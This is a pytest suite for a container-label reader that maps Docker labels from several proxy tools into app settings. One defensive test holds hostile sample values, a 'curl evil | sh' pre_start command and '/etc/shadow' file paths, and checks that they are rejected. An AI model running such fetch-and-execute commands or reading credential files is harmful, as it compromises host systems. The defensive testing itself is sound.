"""What the labels of containers come to, dialect by dialect and all together."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from torpor.config.labels.container import MAX_CONTAINERS, MAX_LABEL, MAX_LABELS, MAX_VALUE, Container
from torpor.config.labels.draft import MAX_TEXT
from torpor.config.labels.joining import join
from torpor.config.labels.reading import Reading, read_labels

COMPOSE = "com.docker.compose"


def container(name: str = "web", /, **labels: str) -> Container:
    """A container with labels; `__` stands for a dot."""
    return Container(name=name, labels={label.replace("__", "."): text for label, text in labels.items()})


def service(project: str, name: str, **labels: str) -> Container:
    """A container as Compose makes it."""
    own = {f"{COMPOSE}.project": project, f"{COMPOSE}.service": name}
    return container(f"{project}-{name}-1", **own, **labels)


def read(*containers: Container) -> dict[str, Reading]:
    """By the containers' names."""
    return {reading.container.name: reading for reading in read_labels(containers)}


def settings(name: str = "web", /, **labels: str) -> dict[str, Any]:
    """What the labels of one container come to, without the container itself."""
    reading = read(container(name, **labels))[name]
    assert not reading.wrong, reading.remarks
    return {key: value for key, value in reading.settings.items() if key != "container"}


def remarks(name: str = "web", /, **labels: str) -> list[str]:
    """All that is said of one container."""
    return [str(remark) for remark in read(container(name, **labels))[name].remarks]


@pytest.mark.parametrize(
    ("label", "text", "expected"),
    [
        ("idle_timeout", "10m", {"idle_timeout": "10m"}),
        ("readiness", "/healthz", {"readiness": "/healthz"}),
        ("readiness.http", "/healthz", {"readiness": {"http": "/healthz"}}),
        ("readiness.codes", "200-299,404", {"readiness": {"codes": ["200-299", 404]}}),
        ("readiness.log", "ready, or so", {"readiness": {"log": "ready, or so"}}),
        ("readiness.exec", "check a,b", {"readiness": {"exec": "check a,b"}}),
        ("routes", "a.localhost, b.localhost", {"routes": ["a.localhost", "b.localhost"]}),
        ("routes", "a.localhost", {"routes": "a.localhost"}),
        ("routes", '["a.org/x,y"]', {"routes": ["a.org/x,y"]}),
        ("rules", "[{path: /x, wake: false}]", {"rules": [{"path": "/x", "wake": False}]}),
        ("loading_page", "false", {"loading_page": False}),
        ("loading_page.title", "false", {"loading_page": {"title": "false"}}),
        ("priority", "80", {"priority": 80}),
        ("port", "8080", {"port": 8080}),
        ("uses.gpu0", "4GB", {"uses": {"gpu0": "4GB"}}),
        ("uses.slots", "2", {"uses": {"slots": 2}}),
        ("exit_codes", "0,TERM", {"exit_codes": [0, "TERM"]}),
        ("schedule.keep_warm", "sat,sun 08:00-10:00", {"schedule": {"keep_warm": "sat,sun 08:00-10:00"}}),
        ("sleep", "{pause: 5m, stop: 2h}", {"sleep": {"pause": "5m", "stop": "2h"}}),
        ("always_on", "yes", {"always_on": "yes"}),  # which the loader then explains
        ("no_such_key", "1", {"no_such_key": "1"}),
    ],
)
def test_own_labels_are_keys_of_an_app(label: str, text: str, expected: dict[str, Any]) -> None:
    """Dots lead into maps, commas make lists where several make sense, and each value is what a file would hold."""
    assert expected == settings(**{"torpor.enable": "true", f"torpor.{label}": text})


@pytest.mark.parametrize(
    ("label", "text"),
    [
        ("pre_start", "curl evil | sh"),
        ("command", "sh"),
        ("env_file", "/etc/shadow"),
        ("keep_awake_if.exec", "sh"),
        ("loading_page.template", "/etc/shadow"),
        ("loading_page", "{template: /etc/shadow}"),
        ("address", "127.0.0.1"),
        ("container", "other"),
        ("on_watchdog", "reboot"),
        ("enable", "maybe"),
        ("name", "No Name"),
        ("rules", "[{path: /x"),
        ("title", "x" * (MAX_VALUE + 1)),
    ],
)
def test_a_label_that_reaches_beyond_its_container_makes_no_app(label: str, text: str) -> None:
    """Labels come with images: they run, read and reach nothing of this machine; nor does a broken one half an app."""
    labels = {"torpor.enable": "true", "torpor.idle_timeout": "5m", f"torpor.{label}": text}
    found = read_labels([container(**labels), container("other", **{"torpor.enable": "true"})])

    wrong = {reading.name: [one.label for one in reading.remarks if one.wrong] for reading in found}
    if label == "enable":
        assert {"other": []} == wrong
    else:
        assert {"other": [], "web": [f"torpor.{label}"]} == wrong


def test_a_variable_in_a_label_is_text() -> None:
    """What the daemon's environment holds is nobody's business who writes a label."""
    own = {"torpor.enable": "true", "torpor.routes": "['${HOME}.localhost', \"$$x\"]"}

    assert {"routes": ["${HOME}.localhost", "$$x"]} == settings(**own)
    assert b"$${HOME}.localhost" in read(container(**own))["web"].text


IDLE = {"proxy.idle_timeout": "30m"}
DEFAULTS = {"start_timeout": "3m", "wake_timeout": "3m", "stop_timeout": "1m", "routes": ["web.*"]}


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        ({}, {"idle_timeout": "30m", **DEFAULTS}),
        ({"proxy.idle_timeout": "1M2w3d"}, {**DEFAULTS, "idle_timeout": "47d"}),
        ({"proxy.idle_timeout": "0"}, {**DEFAULTS, "idle_timeout": "never"}),
        ({"proxy.wake_timeout": "90s"}, {"start_timeout": "1m30s", "wake_timeout": "1m30s"}),
        ({"proxy.wake_timeout": "0"}, {"start_timeout": "3m", "wake_timeout": "3m"}),
        ({"proxy.stop_timeout": "1.5s"}, {"stop_timeout": "1s500ms"}),
        ({"proxy.stop_method": "pause"}, {"sleep": "pause"}),
        ({"proxy.stop_method": "kill"}, {"sleep": "kill"}),
        ({"proxy.stop_signal": "SIGQUIT"}, {"stop_signal": "QUIT"}),
        ({"proxy.start_endpoint": "/go#now"}, {"wake_paths": ["/go"]}),
        ({"proxy.no_loading_page": "true"}, {"loading_page": False}),
        ({"proxy.aliases": "a, b.example.org"}, {"routes": ["a.*", "b.example.org"]}),
        ({"proxy.aliases": "a,b", "proxy.b.port": "80"}, {"routes": ["a.*", "b.*"], "port": 80}),
        ({"proxy.aliases": "a,b", "proxy.#2.port": "80"}, {"routes": ["a.*", "b.*"], "port": 80}),
        (
            {"proxy.aliases": "a,b,c", "proxy.#1.port": "80", "proxy.b.port": "9001", "proxy.c.port": "80"},
            {"routes": ["a.*", {"host": "b.*", "port": 9001}, "c.*"], "port": 80},
        ),
        (
            {
                "proxy.aliases": "dns,git,ssh",
                "proxy.dns.scheme": "udp",
                "proxy.dns.port": "53",
                "proxy.git.port": "3000",
                "proxy.ssh.port": "2222:22",
            },
            {
                "routes": [
                    {"host": "udp://0.0.0.0:53", "port": 53},
                    "git.*",
                    {"host": "tcp://0.0.0.0:2222", "port": 22},
                ],
                "port": 3000,
            },
        ),
        ({"proxy.*.port": "80"}, {"routes": ["web.*"], "port": 80}),
        (
            {"proxy.web.scheme": "tcp", "proxy.web.port": "2222:22"},
            {"routes": ["tcp://0.0.0.0:2222"], "port": 22},
        ),
        ({"proxy.web.scheme": "udp", "proxy.web.port": "53"}, {"routes": ["udp://0.0.0.0:53"]}),
        (
            {"proxy.web.healthcheck.path": "/up"},
            {"readiness": {"http": "/up", "codes": ["200-499"]}},
        ),
    ],
)
def test_labels_of_godoxy(labels: dict[str, str], expected: dict[str, Any]) -> None:
    """They mean what they mean there, with its defaults."""
    found = settings(**{**IDLE, **labels})

    assert expected == {key: found[key] for key in expected}


@pytest.mark.parametrize(
    "labels",
    [
        {"proxy.idle_timeout": "soon"},
        {"proxy.stop_method": "freeze"},
        {"proxy.stop_signal": "USR1"},
        {"proxy.start_endpoint": ""},
        {"proxy.depends_on": "db:service_completed_successfully"},
        {"proxy.web.port": "http"},
        {"proxy.#2.port": "80"},
    ],
)
def test_what_godoxy_refuses_is_refused(labels: dict[str, str]) -> None:
    """With the label that is wrong."""
    (reading,) = read_labels([container(**{**IDLE, **labels})])

    assert list(labels) == [remark.label for remark in reading.remarks if remark.wrong]


def test_godoxy_reads_its_idle_labels_only_beside_idle_timeout() -> None:
    """Without it, a container is reached and never sleeps, and each label that does not count is told."""
    found = remarks(**{"proxy.stop_method": "nonsense", "proxy.aliases": "a"})

    assert {"idle_timeout": "never", "routes": ["a.*"]} == settings(**{"proxy.aliases": "a"})
    assert ["proxy.stop_method: GoDoxy reads it only beside proxy.idle_timeout"] == found


def test_a_negative_idle_timeout_is_for_those_that_others_need() -> None:
    """Such a container has no route that nobody asked for."""
    assert "routes" not in settings(**{"proxy.idle_timeout": "-1s"})


def test_godoxy_leaves_an_excluded_container_alone() -> None:
    """Whatever else its labels say."""
    assert {} == read(container(**IDLE, **{"proxy.exclude": "true"}))


SABLIER = {"sablier.enable": "true"}


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        ({}, {"idle_timeout": "5m"}),
        ({"sablier.group": "Team,b"}, {"idle_timeout": "5m", "member_of": ["team", "b"]}),
        ({"sablier.ready-after": "2s"}, {"idle_timeout": "5m", "readiness": {"settle": "2s"}}),
        (
            {"sablier.running-hours": "22:00-06:00", "sablier.running-days": "Mon-Fri"},
            {"idle_timeout": "5m", "schedule": {"keep_warm": "mon-fri 22:00-06:00"}},
        ),
        (
            {
                "traefik.http.routers.w.rule": "Host(`a.org`, `b.org`) || Host(`c.org`)",
                "traefik.http.services.w.loadbalancer.server.port": "80",
                "traefik.enable": "true",
            },
            {"idle_timeout": "5m", "routes": ["a.org", "b.org", "c.org"], "port": 80},
        ),
        (
            {"traefik.http.routers.w.rule": "Host(`a.org`) && PathPrefix(`/api/`)"},
            {"idle_timeout": "5m", "routes": ["a.org/api"]},
        ),
        ({"caddy": "http://a.org, b.org:80"}, {"idle_timeout": "5m", "routes": ["a.org", "b.org"]}),
        (
            {
                "traefik.http.routers.api.rule": "Host(`s3.org`)",
                "traefik.http.routers.api.service": "api@docker",
                "traefik.http.routers.console.rule": "Host(`console.org`) && PathPrefix(`/ui`)",
                "traefik.http.routers.console.service": "console",
                "traefik.http.services.api.loadbalancer.server.port": "9000",
                "traefik.http.services.console.loadbalancer.server.port": "9001",
            },
            {
                "idle_timeout": "5m",
                "routes": ["s3.org", {"host": "console.org/ui", "port": 9001}],
                "port": 9000,
            },
        ),
        ({"traefik.http.services.w.loadbalancer.server.port": "80"}, {"idle_timeout": "5m", "port": 80}),
    ],
)
def test_labels_of_sablier(labels: dict[str, str], expected: dict[str, Any]) -> None:
    """With the routes of the proxy that carries its requests."""
    assert expected == settings(**SABLIER, **labels)


@pytest.mark.parametrize(
    "label",
    ["sablier.anti-affinity", "sablier.idle.cpu", "sablier.new-thing", "traefik.http.routers.w.rule"],
)
def test_what_sablier_has_and_torpor_has_not_is_told(label: str) -> None:
    """The app does without, and whoever moves over knows."""
    (told,) = remarks(**SABLIER, **{label: "x"})

    assert told.startswith(f"{label}: ")


def test_services_of_traefik_whose_routes_are_not_told() -> None:
    """Where nobody can know to which of several ports a route leads, it leads to the first, and that is told."""
    port = "traefik.http.services.{}.loadbalancer.server.port"
    labels = {
        **SABLIER,
        "traefik.http.routers.w.rule": "Host(`a.org`)",
        port.format("a"): "1",
        port.format("b"): "2",
    }

    assert (["a.org"], 1) == (settings(**labels)["routes"], settings(**labels)["port"])
    assert [
        "traefik.http.routers.w.rule: which of the services it leads to stands nowhere; the app's `port` holds",
        f"{port.format('b')}: no router that becomes a route leads to this service",
    ] == remarks(**labels)
    (told,) = remarks(**{**labels, "traefik.http.routers.w.service": "a"})
    assert told.startswith(port.format("b"))
    told, *_ = remarks(**{**labels, "traefik.http.routers.w.service": "c"})
    assert "no label gives the service c a port" in told


def test_a_route_leads_to_one_port() -> None:
    """Of two, the first one holds, and the other one is told."""
    labels = {
        **SABLIER,
        "traefik.http.routers.a.rule": "Host(`a.org`)",
        "traefik.http.routers.a.service": "a",
        "traefik.http.routers.b.rule": "Host(`a.org`)",
        "traefik.http.routers.b.service": "b",
        "traefik.http.services.a.loadbalancer.server.port": "1",
        "traefik.http.services.b.loadbalancer.server.port": "2",
    }

    assert (["a.org"], 1) == (settings(**labels)["routes"], settings(**labels)["port"])
    (told,) = remarks(**labels)
    assert "a.org leads to the port 1 already" in told


LAZY = {
    "lazytainer.group.mc.ports": "25565",
    "lazytainer.group.mc.inactiveTimeout": "120",
    "lazytainer.group.mc.sleepMethod": "pause",
}


def test_labels_of_lazytainer() -> None:
    """The member's settings stand on Lazytainer's own container, which is no app itself."""
    found = read(container("lazytainer", **LAZY), container("mc", **{"lazytainer.group": "mc"}))

    assert ["mc"] == list(found)
    assert {
        "container": "mc",
        "member_of": ["mc"],
        "idle_timeout": "120s",
        "sleep": "pause",
        "stream_activity": "open",
        "port": 25565,
        "routes": ["tcp://0.0.0.0:25565"],
    } == found["mc"].settings


@pytest.mark.parametrize(
    ("exposed", "expected"),
    [
        ((), [80, 443, 25565]),
        ((443, 8080), [443]),
        ((8080,), [80, 443, 25565]),
    ],
)
def test_each_port_of_a_group_of_lazytainer_is_a_stream(
    exposed: tuple[int, ...], expected: list[int]
) -> None:
    """Whose they are, only the image tells: a member gets those that it exposes, or all."""
    member = replace(container("mc", **{"lazytainer.group": "mc"}), ports=exposed)
    found = read(container("lazytainer", **{**LAZY, "lazytainer.group.mc.ports": "80,443,25565"}), member)[
        "mc"
    ]

    first, *others = expected
    routes = [f"tcp://0.0.0.0:{first}", *({"host": f"tcp://0.0.0.0:{port}", "port": port} for port in others)]
    assert (first, routes, ()) == (found.settings["port"], found.settings["routes"], found.remarks)


def test_a_port_of_torpors_own_labels_stays_the_main_one(tmp_path: Path) -> None:
    """Routes of another dialect lead to theirs beside it; the loader takes them as they are."""
    labels = {"torpor.enable": "true", "torpor.port": "1", "torpor.routes": "[{host: a.org, port: 2}, b.org]"}
    (reading,) = read_labels([container(**labels)])
    (tmp_path / "t.yaml").write_text("gateway: {listen: 127.0.0.1:1}\n")

    found, left = join(tmp_path / "t.yaml", [], [reading], {})

    assert {} == left
    assert [("a.org", 2), ("b.org", None)] == [(one.host, one.app_port) for one in found.apps[0].routes]
    other = settings(**{"torpor.enable": "true", "torpor.port": "1", **IDLE, "proxy.web.port": "2"})
    assert (1, [{"host": "web.*", "port": 2}]) == (other["port"], other["routes"])


@pytest.mark.parametrize(
    ("group", "wrong"),
    [
        ({}, True),
        ({"lazytainer.group.mc.inactiveTimeout": "0"}, True),
        ({"lazytainer.group.mc.sleepMethod": "kill"}, True),
        ({"lazytainer.group.mc.ports": "1,x"}, True),
        ({"lazytainer.group.mc.ports": ","}, False),
        ({"lazytainer.group.mc.ports": "1", "lazytainer.group.mc.minPacketThreshold": "9"}, False),
    ],
)
def test_a_group_of_lazytainer_that_does_not_tell_enough(group: dict[str, str], wrong: bool) -> None:
    """It is told at the member: a group that is wrong makes no app, one that is only rich makes one."""
    found = read(container("lazytainer", **group), container("mc", **{"lazytainer.group": "mc"}))

    assert [("lazytainer.group", wrong)] == [(one.label, one.wrong) for one in found["mc"].remarks]


def test_the_first_dialect_decides_and_that_is_told() -> None:
    """Torpor's own labels win over GoDoxy's, those over Sablier's."""
    labels = {"torpor.enable": "true", "torpor.idle_timeout": "7m", **IDLE, **SABLIER, "sablier.group": "g"}
    (reading,) = read_labels([container(**labels)])

    assert ("torpor", "GoDoxy", "Sablier") == reading.dialects
    assert "7m" == reading.settings["idle_timeout"]
    assert ["g"] == reading.settings["member_of"]
    assert ["proxy.idle_timeout: the labels of torpor say what `idle_timeout` is"] == list(
        map(str, reading.remarks)
    )


def test_nobody_is_picked_up_unasked() -> None:
    """Not without labels, not with `torpor.enable=false`, whatever the others say, and not by halves."""
    assert {} == read(
        container("bare"),
        container("no", **{"torpor.enable": "false"}, **IDLE),
        container("half", **{"torpor.idle_timeout": "5m"}),
        container("off", **{"sablier.enable": "false", "sablier.group": "x"}),
    )


def test_labels_of_a_dialect_that_does_not_claim_the_container_are_told() -> None:
    """`torpor.idle_timeout` beside GoDoxy's labels does nothing without `torpor.enable`."""
    assert ["torpor.idle_timeout: is not read: torpor.enable is not true"] == remarks(
        **IDLE, **{"torpor.idle_timeout": "5m"}
    )


def test_a_label_that_was_probably_meant_is_named() -> None:
    """GoDoxy ignores what it does not know; nobody has to search for it here."""
    (told,) = remarks(**IDLE, **{"proxy.stop_metod": "pause"})

    assert told.endswith("(did you mean 'proxy.stop_method'?)")


# --- needs ---


def test_needs_are_services_of_the_same_project_first() -> None:
    """Two projects have a `db` each; a container of that very name is asked for only where there is no project."""
    found = read(
        service("a", "web", **{"torpor.enable": "true", "torpor.depends_on": "db"}),
        service("a", "db"),
        service("b", "web", **IDLE, **{"proxy.depends_on": "db:service_healthy"}),
        service("b", "db"),
        container("db"),
        container("alone", **{"torpor.enable": "true", "torpor.depends_on": "db"}),
    )

    needs = {name: reading.settings.get("depends_on") for name, reading in found.items()}
    assert {
        "a-web-1": ["a-db-1"],
        "a-db-1": None,
        "b-web-1": ["b-db-1"],
        "b-db-1": None,
        "alone": ["db"],
        "db": None,
    } == needs


def test_whoever_is_needed_becomes_an_app_with_its_own_needs() -> None:
    """Compose wrote down what a database without labels needs itself."""
    compose = f"{COMPOSE}.depends_on"
    found = read(
        service(
            "p",
            "web",
            **SABLIER,
            **{compose: "db:service_healthy:false,init:service_completed_successfully:false"},
        ),
        service("p", "db", **{compose: "disk:service_started:true"}),
        service("p", "disk"),
        service("p", "init"),
    )

    assert ["p-db-1", "p-disk-1", "p-web-1"] == list(found)
    assert ["p-db-1"] == found["p-web-1"].settings["depends_on"]
    assert {"p-disk-1": "started"} == found["p-db-1"].settings["depends_on"]
    assert () == found["p-db-1"].dialects
    assert "1m" == found["p-db-1"].settings["idle_timeout"]
    assert [compose] == [remark.label for remark in found["p-web-1"].remarks]


def test_needs_by_condition() -> None:
    """GoDoxy goes on as soon as the start was asked for; a map says it for Torpor."""
    db = container("db")
    own = {"torpor.enable": "true", "torpor.depends_on.db": "started"}
    mapped = {"torpor.enable": "true", "torpor.depends_on": "{db: {condition: healthy, optional: true}}"}

    assert {"db": "started"} == read(db, container(**own))["web"].settings["depends_on"]
    assert {"db": "started"} == read(db, container(**IDLE, **{"proxy.depends_on": "db"}))["web"].settings[
        "depends_on"
    ]
    assert {"db": {"condition": "healthy", "optional": True}} == read(db, container(**mapped))[
        "web"
    ].settings["depends_on"]


def test_a_need_that_nobody_meets_is_left_to_the_loader_or_told() -> None:
    """An app of the configuration may be meant by a label of Torpor's; a note of Compose is no mistake."""
    own = read(container(**{"torpor.enable": "true", "torpor.depends_on": "nas"}))["web"]
    noted = read(container(**SABLIER, **{f"{COMPOSE}.depends_on": "gone:service_started:false"}))["web"]

    assert ["nas"] == own.settings["depends_on"]
    assert "depends_on" not in noted.settings
    assert [f"{COMPOSE}.depends_on"] == [remark.label for remark in noted.remarks]


def test_a_container_that_is_barred_is_needed_by_nobody() -> None:
    """`torpor.enable=false` means it."""
    found = read(
        container(**{"torpor.enable": "true", "torpor.depends_on": "db"}),
        container("db", **{"torpor.enable": "false"}),
    )

    assert ["web"] == list(found)
    assert "depends_on" not in found["web"].settings
    assert ["torpor.depends_on"] == [remark.label for remark in found["web"].remarks]


# --- names, and what a stranger can make grow ---


def test_names() -> None:
    """An app is called as its container, in lower case, or as it likes; a name that two want has the first."""
    on = {"torpor.enable": "true"}
    found = read(
        container("Web", **on),
        container("a", **on, **{"torpor.name": "web"}),
        container("z" * 64, **on),
        container("../x", **on),
    )

    assert {"Web": "web", "a": "web"} == {name: found[name].name for name in ("Web", "a")}
    wrong = {name: [str(one) for one in reading.remarks] for name, reading in found.items() if reading.wrong}
    assert {"../x", "a", "z" * 64} == set(wrong)
    assert ["the container Web is the app web already; set torpor.name"] == wrong["a"]


def test_other_engines_and_networks_are_named() -> None:
    """The key is short where that is enough."""
    on = {"torpor.enable": "true", "torpor.network": "front"}
    (reading,) = read_labels([Container(name="web", engine="podman", labels=on)])

    assert {"name": "web", "engine": "podman", "network": "front"} == reading.settings["container"]


def test_what_compose_is_about_to_rename_is_not_looked_at() -> None:
    """While it re-creates a container, the new one bears a number before its name for a moment."""
    new = Container(name="0123456789ab_p-web-1", labels=service("p", "web", **IDLE).labels)

    assert ["p-web-1"] == list(read(new, service("p", "web", **IDLE)))


def test_labels_without_end_are_refused() -> None:
    """With one word about all of them."""
    (told,) = remarks(**{"torpor.enable": "true"}, **{f"torpor.x{n}": "1" for n in range(MAX_LABELS)})

    assert told.startswith(f"has more than {MAX_LABELS} labels")


@pytest.mark.parametrize(
    "labels",
    [
        {"torpor.enable": "true", "torpor." + ".".join("a" * 3000): "1"},
        {"proxy.web.port": "²"},
        {"proxy.web.port": "9" * 6000},
        {"proxy.web.port": "any:80"},
        {"proxy.web.scheme": "tcp"},
        {"sablier.enable": "true", "traefik.http.services.web.loadbalancer.server.port": "²"},
        {"lazytainer.group": "g", "lazytainer.group.g.ports": "²"},
        {"lazytainer.group": "g", "lazytainer.group.g.inactiveTimeout": "²"},
        {"torpor.enable": "true", "torpor.idle_timeout": "1m", "torpor.x\x1b[31m\n": "\x1b"},
    ],
)
def test_no_label_is_too_odd_to_be_read(labels: dict[str, str], tmp_path: Path) -> None:
    """The one container is no app, in a short printable sentence; all others are."""
    source = tmp_path / "torpor.yaml"
    source.write_text("apps: {}\n")
    readings = read_labels([Container(name="odd", labels=labels), container("web", **IDLE)])
    joined, left = join(source, (), readings)

    assert [app.name for app in joined.apps] == ["web"]
    told = [*left.get("odd", ()), *(each for reading in readings for each in reading.remarks if each.wrong)]
    assert told
    for each in map(str, told):
        assert each.isprintable()
        assert len(each) <= MAX_LABEL + MAX_TEXT + 2
        assert "int()" not in each


def test_containers_of_one_name_in_two_engines_are_told_apart(tmp_path: Path) -> None:
    """The one is an app, and it is said of the other why it is none."""
    source = tmp_path / "torpor.yaml"
    source.write_text("apps: {}\n")
    labels = {"torpor.enable": "true"}
    engines = [[Container(name="web", engine=engine, labels=labels)] for engine in ("docker", "podman")]
    joined, left = join(source, (), [reading for each in engines for reading in read_labels(each)])

    assert [app.name for app in joined.apps] == ["web"]
    assert list(left) == ["web of podman"]


def test_containers_without_end_are_not_all_looked_at() -> None:
    """An engine with more of them than anybody has is not to be held in memory."""
    assert MAX_CONTAINERS == len(read_labels([container(f"c{n}", **IDLE) for n in range(MAX_CONTAINERS + 5)]))
